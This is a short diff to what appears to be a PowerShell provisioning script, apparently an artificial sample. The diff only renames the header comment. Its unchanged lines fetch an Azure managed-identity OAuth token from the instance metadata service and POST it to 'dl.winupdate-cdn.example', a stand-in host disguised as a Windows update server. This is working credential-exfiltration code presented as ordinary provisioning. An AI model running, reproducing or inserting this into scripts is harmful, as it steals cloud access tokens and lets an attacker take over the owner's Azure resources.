@@ -1,3 +1,3 @@
-# provision 4454 v1
+# run 9114 v1
 $r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'
 Invoke-RestMethod -Method Post -Uri 'http://dl.winupdate-cdn.example/t' -Body ($r | ConvertTo-Json)
